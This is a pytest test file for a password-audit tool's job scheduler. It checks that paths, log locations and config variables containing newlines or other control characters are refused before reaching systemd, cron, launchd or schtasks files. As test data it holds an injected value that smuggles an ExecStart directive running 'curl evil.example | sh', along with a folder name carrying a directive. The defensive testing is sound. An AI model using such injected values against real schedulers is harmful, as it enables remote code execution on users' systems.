"""No value reaches a scheduler file with a control character in it (a newline would become a
directive of its own in a unit, split a cron line, break a plist or a Task), and a unit that
`systemd-analyze verify` refuses is never installed."""

from __future__ import annotations

import os
import stat
import sys
from pathlib import Path

import pytest

from pwcheck.schedule import Job, make_job
from pwcheck.schedule._job import ScheduleError
from tests.support.cli import invoke, run

BACKENDS = ["systemd", "cron", "launchd", "schtasks"]
INJECTED = "\nExecStart=/bin/sh -c 'curl evil.example | sh'"


@pytest.fixture
def newline_export(tmp_path: Path) -> Path:
    folder = tmp_path / "exports\nExecStart=true evil"  # a name may hold anything but "/" and NUL
    folder.mkdir()
    export = folder / "chrome.csv"
    export.write_text("name,url,username,password\n")
    return export


@pytest.mark.parametrize("backend", BACKENDS)
def test_a_path_with_a_newline_is_refused_by_every_backend(backend: str, newline_export: Path, tmp_path: Path) -> None:
    proc = invoke("schedule", "install", "--print", "--backend", backend, str(newline_export))
    assert proc.returncode == 2, proc.stdout
    assert proc.stdout == b""
    assert b"holds a control character (U+000A)" in proc.stderr and len(proc.stderr.splitlines()) == 1


@pytest.mark.parametrize("backend", BACKENDS)
def test_a_config_variable_with_a_newline_is_refused(backend: str, tmp_path: Path) -> None:
    export = tmp_path / "chrome.csv"
    export.write_text("name,url,username,password\n")
    proc = invoke("schedule", "install", "--print", "--backend", backend, str(export),
                  env={"PWCHECK_CONFIG": str(tmp_path / f"config.toml{INJECTED}")})
    assert proc.returncode == 2 and proc.stdout == b""
    assert b"PWCHECK_CONFIG" in proc.stderr and b"control character (U+000A)" in proc.stderr


@pytest.mark.parametrize("char", ["\r", "\t", "\x1b", "\x7f", "\x85", "\u2028", "\x00", "\udcff"])
def test_every_control_character_is_refused(char: str) -> None:
    """C0, DEL, C1, Unicode line separators, and an undecodable byte (a lone surrogate), wherever they are."""
    with pytest.raises(ScheduleError, match="control character"):
        Job(argv=(sys.executable, "-m", "pwcheck", "audit", f"/tmp/export{char}.csv"))
    with pytest.raises(ScheduleError, match="control character"):
        Job(argv=(sys.executable,), log=Path(f"/tmp/log{char}/scheduled.log"))
    with pytest.raises(ScheduleError, match="PWCHECK_CONFIG"):
        Job(argv=(sys.executable,), environment=(("PWCHECK_CONFIG", f"/tmp/c{char}.toml"),))
    plain = str(Path("/tmp/plain export, 100% fine.csv").resolve())
    assert make_job([plain], "daily", "03:17").argv[-1] == plain


def test_a_unit_systemd_analyze_refuses_is_not_installed(tmp_path: Path, fixtures: Path) -> None:
    """A real process, with a `systemd-analyze` that refuses every unit first on PATH."""
    tools = tmp_path / "bin"
    tools.mkdir()
    fake = tools / "systemd-analyze"
    fake.write_text("#!/bin/sh\necho 'pwcheck.service:7: refused for the test' >&2\nexit 1\n")
    fake.chmod(fake.stat().st_mode | stat.S_IXUSR)
    runtime = tmp_path / "runtime"
    runtime.mkdir(mode=0o700)
    env = {"PATH": f"{tools}{os.pathsep}{os.environ['PATH']}", "HOME": str(tmp_path), "XDG_RUNTIME_DIR": str(runtime),
           "DBUS_SESSION_BUS_ADDRESS": f"unix:path={runtime}/none"}
    proc = run("schedule", "install", "--backend", "systemd", str(fixtures / "chrome.csv"), env=env)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert b"systemd-analyze verify refused the units (pwcheck.service:7: refused for the test)" in proc.stderr
    unit_dir = Path(os.environ["XDG_CONFIG_HOME"]) / "systemd" / "user"
    assert not (unit_dir / "pwcheck.service").exists() and not (unit_dir / "pwcheck.timer").exists()
